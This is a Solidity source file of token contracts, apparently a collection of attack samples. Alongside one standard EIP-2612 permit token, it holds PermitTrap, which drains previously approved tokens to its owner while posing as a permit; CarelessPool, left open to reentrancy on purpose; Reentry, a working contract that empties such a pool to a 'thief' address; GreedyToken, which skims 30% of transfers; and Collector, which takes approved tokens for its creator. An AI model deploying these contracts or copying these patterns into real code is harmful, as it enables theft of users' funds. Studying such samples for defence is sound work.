// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import "./Tokens.sol";

/// A token with permits as EIP-2612 has them.
contract PermitToken is Token {
    mapping(address => uint256) public nonces;
    bytes32 public immutable DOMAIN_SEPARATOR;
    bytes32 private constant KIND = keccak256(
        "Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"
    );

    constructor(string memory name_, string memory symbol_) Token(name_, symbol_, 18) {
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"),
                keccak256(bytes(name_)),
                block.chainid,
                address(this)
            )
        );
    }

    function permit(
        address from,
        address spender,
        uint256 value,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external virtual {
        require(block.timestamp <= deadline, "late");
        bytes32 what = keccak256(abi.encode(KIND, from, spender, value, nonces[from]++, deadline));
        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, what));
        require(ecrecover(digest, v, r, s) == from, "not signed");
        allowance[from][spender] = value;
        emit Approval(from, spender, value);
    }
}

/// A token whose permit takes another token, by a right that it was given before.
contract PermitTrap is Token {
    Token private immutable loot;

    constructor(Token loot_) Token("Points", "PTS", 18) {
        loot = loot_;
    }

    function permit(address from, address, uint256, uint256, uint8, bytes32, bytes32) external {
        uint256 most = loot.allowance(from, address(this));
        uint256 has = loot.balanceOf(from);
        loot.transferFrom(from, owner, most < has ? most : has);
    }
}

/// A pool that pays before it notes that it has paid.
contract CarelessPool {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 value = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "refused");
        balanceOf[msg.sender] = 0;
    }
}

/// Empties such a pool with its visitor's money by coming back into it.
contract Reentry {
    CarelessPool private immutable pool;
    address payable private immutable thief;

    constructor(CarelessPool pool_, address payable thief_) {
        (pool, thief) = (pool_, thief_);
    }

    receive() external payable {
        if (address(pool).balance >= msg.value) pool.withdraw();
    }

    function join() external payable {
        pool.deposit{value: msg.value}();
        pool.withdraw();
        thief.transfer(address(this).balance);
    }
}

/// Keeps three tenths of every transfer but its owner's.
contract GreedyToken is Token {
    constructor() Token("Greedy", "GREED", 18) {}

    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        if (from != owner && to != owner) {
            balanceOf[to] -= (value * 3) / 10;
            balanceOf[owner] += (value * 3) / 10;
        }
    }
}

/// Takes whatever it was given rights over, for whoever made it.
contract Collector {
    address private immutable thief = msg.sender;

    function take(Token token, address from, uint256 value) external {
        token.transferFrom(from, thief, value);
    }
}
